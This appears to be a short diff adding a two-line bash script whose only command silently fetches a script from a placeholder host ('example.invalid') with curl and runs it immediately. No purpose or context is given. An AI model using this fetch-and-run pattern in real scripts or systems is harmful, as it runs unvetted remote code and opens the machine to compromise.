@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(curl -s http://example.invalid/x.sh)
